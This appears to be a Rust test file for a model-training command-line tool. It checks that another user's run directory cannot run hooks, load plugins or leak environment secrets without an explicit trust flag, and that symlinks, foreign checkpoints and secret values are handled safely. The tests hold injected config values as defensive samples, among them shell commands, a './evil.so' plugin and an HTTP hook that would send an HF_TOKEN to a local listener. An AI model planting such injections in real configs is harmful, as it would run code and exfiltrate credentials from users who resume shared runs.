//! Run directories of other people, and secrets: nothing is run, sent, read, written or deleted that was not agreed to.

use std::net::TcpListener;
use std::path::Path;
use std::process::{Command, Output};

use crate::world::{SHORT, World, fails, stderr_text};

const BRIGHTNESS: [&str; 6] =
    ["reward.name=brightness", SHORT[0], SHORT[1], SHORT[2], SHORT[3], "training.learning_rate=1e-3"];

/// A run of two steps in `run`.
fn trained(settings: &[&str]) -> World {
    let world = World::new(3);
    let output = world.training("run", 2, &[&BRIGHTNESS[..], settings].concat()).output().unwrap();
    assert!(output.status.success(), "{}", stderr_text(&output));
    world
}

/// `roll` of another user.
fn of_another(world: &World, arguments: &[&str]) -> Command {
    let mut command = world.command(arguments);
    command.env("ROLL_STATE", world.path("state-of-another")).env("HF_TOKEN", "hf_0123456789");
    command
}

fn link(target: &Path, name: &Path) {
    std::os::unix::fs::symlink(target, name).unwrap();
}

#[test]
fn nothing_of_another_persons_run_happens_without_trust() {
    let world = trained(&["save_steps=1"]);
    let server = TcpListener::bind("127.0.0.1:0").unwrap();
    server.set_nonblocking(true).unwrap();
    let url = format!("http://{}/x?k=${{oc.env:HF_TOKEN}}", server.local_addr().unwrap());
    let original = std::fs::read_to_string(world.path("run/config.yaml")).unwrap();
    let attacks = [
        ("on_finish: []", "on_finish: [sh, -c, touch MARK]".to_string(), r#"on_finish runs "sh" "-c" "touch MARK""#),
        ("on_metrics: []", "on_metrics: [tee, MARK]".into(), r#"on_metrics runs "tee" "MARK""#),
        ("plugins: []", "plugins: [./evil.so]".into(), r#"plugins loads "./evil.so""#),
        (
            "- name: brightness",
            "- {name: command, command: [sh, -c, touch MARK]}\n- name: brightness".into(),
            "touch MARK",
        ),
        (
            "  check: auto",
            "train_samples: 1\ncheck: [{name: command, command: [sh, -c, touch MARK]}]".into(),
            r#"evaluation.check.0.command runs "sh" "-c" "touch MARK""#,
        ),
        ("- name: brightness", format!("- {{name: http, url: '{url}'}}\n- name: brightness"), "${oc.env:HF_TOKEN}"),
    ];
    for (key, value, line) in attacks {
        let indented =
            original.lines().find(|line| line.contains(key)).unwrap_or_else(|| panic!("no {key}: {original}"));
        let indent = &indented[..indented.find(key.trim_start()).unwrap()];
        let value = value.replace('\n', &format!("\n{indent}"));
        let without = match key.trim() {
            "check: auto" => original.replace("train_samples: 0\n", "\n"),
            _ => original.clone(),
        };
        std::fs::write(world.path("run/config.yaml"), without.replacen(key.trim(), &value, 1)).unwrap();
        for arguments in [
            &["run", "--resume", "run", "--steps", "3"][..],
            &["run", "--resume", "run", "--dry-run"],
            &["check", "--config", "run/config.yaml"],
            &["config", "--config", "run/config.yaml"],
            &["plan", "--config", "run/config.yaml"],
        ] {
            let output = of_another(&world, arguments).output().unwrap();
            fails(&output, 2, &["--trust", line, "run/config.yaml"]);
            assert!(!stderr_text(&output).contains("hf_0123456789"));
        }
        // The user too cannot tell a change of theirs from one of another person.
        fails(&world.roll(&["run", "--resume", "run", "--steps", "3"]), 2, &["--trust", line]);
        assert!(!world.path("MARK").exists() && server.accept().is_err(), "{value}");
    }
    assert!(!world.path("run/checkpoints/step-000003").exists());
}

#[test]
fn a_trusted_run_and_a_users_own_go_on() {
    let world = trained(&["on_finish=[sh, -c, touch MARK]"]);
    world.done(&["run", "--resume", "run", "--steps", "3"]);
    assert!(world.path("MARK").exists());
    std::fs::remove_file(world.path("MARK")).unwrap();
    let output = of_another(&world, &["run", "-q", "--resume", "run", "--steps", "4", "--trust"]).output().unwrap();
    assert!(output.status.success() && stderr_text(&output).contains("touch MARK"), "{}", stderr_text(&output));
    assert!(world.path("MARK").exists());
    // From then on it is a run of theirs, and no longer of the first user.
    assert!(of_another(&world, &["run", "--resume", "run", "--steps", "5"]).output().unwrap().status.success());
    fails(&world.roll(&["run", "--resume", "run", "--steps", "6"]), 2, &["--trust"]);
    // A file that the user names is no run directory.
    std::fs::copy(world.path("run/config.yaml"), world.path("mine.yaml")).unwrap();
    world.done(&["config", "--config", "mine.yaml"]);
    link(&world.path("run/config.yaml"), &world.path("link.yaml"));
    fails(&world.roll(&["config", "--config", "link.yaml"]), 2, &["--trust"]);
}

#[test]
fn variables_are_kept_as_they_are_written() {
    let world = World::new(3);
    // YAML would join these lines.
    let key = "-----BEGIN KEY-----\nMIIExy\n-----END KEY-----\n";
    let secrets = [
        ("DATABASE_URL", "postgres://u:pa55word@h/d"),
        ("SHORT", "x7q"),
        ("MY_PRIVATE_KEY", key),
        ("SLACK_WEBHOOK", "https://hooks.example/T0/B0/XyZ"),
    ];
    let words = secrets.map(|(name, _)| format!("\"${{oc.env:{name}}}\"")).join(", ");
    let finish = r#"for word in "$@"; do printf '%s|' "$word"; done > words"#;
    let yaml = format!(
        "on_finish: [sh, -c, '{}', sh, {words}, 'a-${{oc.env:SHORT}}']\nsave_steps: ${{oc.env:EVERY}}\n",
        finish.replace('\'', "''")
    );
    std::fs::write(world.path("mine.yaml"), yaml).unwrap();
    let with_secrets = |command: &mut Command| -> Output { command.envs(secrets).env("EVERY", "1").output().unwrap() };
    let first = with_secrets(world.training("run", 1, &BRIGHTNESS).args(["--config", "mine.yaml"]));
    assert!(first.status.success(), "{}", stderr_text(&first));
    let expected = secrets.map(|(_, value)| format!("{value}|")).concat() + "a-x7q|";
    assert_eq!(std::fs::read_to_string(world.path("words")).unwrap(), expected);
    std::fs::remove_file(world.path("words")).unwrap();
    let second = with_secrets(&mut world.command(&["run", "--resume", "run", "--steps", "2"]));
    assert!(second.status.success(), "{}", stderr_text(&second));
    assert_eq!(std::fs::read_to_string(world.path("words")).unwrap(), expected);
    let listing = with_secrets(&mut world.command(&["config", "--config", "mine.yaml"]));
    for (what, text) in [
        ("config.yaml", std::fs::read_to_string(world.path("run/config.yaml")).unwrap()),
        ("report.html", std::fs::read_to_string(world.path("run/report.html")).unwrap()),
        ("roll config", String::from_utf8(listing.stdout).unwrap()),
    ] {
        for (name, _) in secrets {
            assert!(text.contains(&format!("${{oc.env:{name}}}")), "{what}: {name}\n{text}");
        }
        for secret in ["pa55word", "MIIE", "XyZ", "x7q"] {
            assert!(!text.contains(secret), "{what}: {secret}");
        }
        assert!(what == "report.html" || text.contains("save_steps: 1") || text.contains("save_steps:  "), "{text}");
    }
}

#[test]
fn messages_name_the_variable_instead_of_its_value() {
    let world = World::new(1);
    for key in ["training: {learning_rate: V}", "steps: V", "backend: V", "training: {betas: [[V]]}"] {
        for secret in ["hf_abcdefgh12345", "k7", &"long".repeat(50)] {
            std::fs::write(world.path("mine.yaml"), key.replace('V', "\"${oc.env:HF_TOKEN}\"")).unwrap();
            let output = world.command(&["check", "--config", "mine.yaml"]).env("HF_TOKEN", secret).output().unwrap();
            let printed = stderr_text(&output) + &String::from_utf8_lossy(&output.stdout);
            assert!(
                !output.status.success() && !printed.contains(&secret[..2.max(secret.len() / 4)]),
                "{key}: {printed}"
            );
        }
    }
}

#[test]
fn prepared_data_and_reports_follow_no_links_out() {
    let world = World::new(1);
    let clips = world.path("clips");
    std::fs::create_dir(&clips).unwrap();
    std::fs::write(world.path("secret"), "a secret prompt").unwrap();
    std::fs::copy(world.path("0.mp4"), clips.join("a.mp4")).unwrap();
    link(&world.path("secret"), &clips.join("a.txt"));
    let size = ["--set", "data.height=64", "--set", "data.width=64", "--set", "data.num_frames=5"];
    let prepare =
        |out: &str, more: &[&str]| world.roll(&[&["data", "prepare", "clips", out], &size[..], more].concat());
    fails(&prepare("out", &[]), 2, &["a.txt", "leads out", "--trust"]);
    assert!(!world.path("out").exists());
    assert!(prepare("trusted", &["--trust"]).status.success());
    // A link that stays inside.
    std::fs::remove_file(clips.join("a.txt")).unwrap();
    std::fs::write(clips.join("words"), "a prompt").unwrap();
    link(Path::new("words"), &clips.join("a.txt"));
    assert!(prepare("inside", &[]).status.success());
    // A frame of a mask.
    std::fs::create_dir(clips.join("mask")).unwrap();
    link(&world.path("0.mp4"), &clips.join("mask/0.png"));
    std::fs::write(clips.join("masked.csv"), "video,prompt,mask\na.mp4,p,mask\n").unwrap();
    let masked = world.roll(&[&["data", "prepare", "clips/masked.csv", "masked"], &size[..]].concat());
    fails(&masked, 2, &["mask/0.png", "leads out"]);
}

#[test]
fn a_linked_directory_of_checkpoints_is_refused() {
    let world = trained(&["save_steps=1"]);
    world.train("other", 2, &[&BRIGHTNESS[..], &["save_steps=1"]].concat());
    std::fs::remove_dir_all(world.path("run/checkpoints")).unwrap();
    link(&world.path("other/checkpoints"), &world.path("run/checkpoints"));
    let on = world.roll(&["run", "--resume", "run", "--steps", "3", "--set", "max_ckpt_to_keep=1"]);
    fails(&on, 2, &["run/checkpoints", "symbolic link"]);
    assert!(world.path("other/checkpoints/step-000001").exists());
    assert!(!world.path("other/checkpoints/step-000003").exists());
}

#[test]
fn a_run_is_locked_before_its_networks_are_opened() {
    let world = trained(&[]);
    let lock = std::fs::File::open(world.path("run")).unwrap();
    lock.lock().unwrap();
    // Opening them would be an error.
    std::fs::remove_dir_all(world.path("tiny")).unwrap();
    fails(&world.roll(&["run", "--resume", "run", "--steps", "3"]), 2, &["another process"]);
}

#[test]
fn checkpoints_of_other_runs_are_refused() {
    let world = trained(&["seed=1"]);
    let copied = world.path("run/checkpoints/step-000003");
    let others: [(&str, &[&str]); 2] = [
        ("seed", &["seed=2"]),
        ("algorithm", &["algo.name=flow_matching", "sample_steps=0", "seed=1", "training.learning_rate=1e-3"]),
    ];
    for (what, settings) in others {
        let settings = if what == "seed" { [&BRIGHTNESS[..], settings].concat() } else { settings.to_vec() };
        world.train(what, 3, &settings);
        let from = world.path(what).join("checkpoints/step-000003");
        let copy = Command::new("cp").arg("-r").arg(&from).arg(&copied).status().unwrap();
        assert!(copy.success());
        let output = world.roll(&["run", "--resume", "run", "--steps", "4"]);
        fails(&output, 2, &["step-000003", "another run", "model.lora_checkpoint="]);
        std::fs::remove_dir_all(&copied).unwrap();
    }
    // With other values it is the same run, also from an older checkpoint.
    let values = ["--set", "training.learning_rate=1e-4", "--set", "exp_name=renamed", "--set", "seed=3"];
    world.done(&[&["run", "--resume", "run", "--steps", "3"], &values[..]].concat());
    std::fs::remove_dir_all(&copied).unwrap();
    world.done(&["run", "--resume", "run", "--steps", "4"]);
}

#[test]
fn missing_metrics_and_steps_that_lie_are_reported() {
    let world = trained(&["save_steps=1"]);
    let metrics = world.path("run/metrics.jsonl");
    let text = std::fs::read_to_string(&metrics).unwrap();
    let first = text.lines().next().unwrap();
    std::fs::write(&metrics, format!("{first}\n")).unwrap();
    let output = world.roll(&["run", "--resume", "run", "--steps", "3"]);
    assert!(stderr_text(&output).contains("holds 1 of 2 steps"), "{}", stderr_text(&output));
    std::fs::remove_file(&metrics).unwrap();
    let manifest = world.path("run/checkpoints/step-000003/manifest.json");
    let lies = std::fs::read_to_string(&manifest).unwrap().replace("\"step\": 3", "\"step\": 30");
    std::fs::write(&manifest, lies).unwrap();
    let output = world.roll(&["run", "--resume", "run", "--steps", "4"]);
    assert!(output.status.success(), "{}", stderr_text(&output));
    for part in ["expected step 3, found 30", "passed over", "holds 0 of 2 steps"] {
        assert!(stderr_text(&output).contains(part), "no {part} in: {}", stderr_text(&output));
    }
}
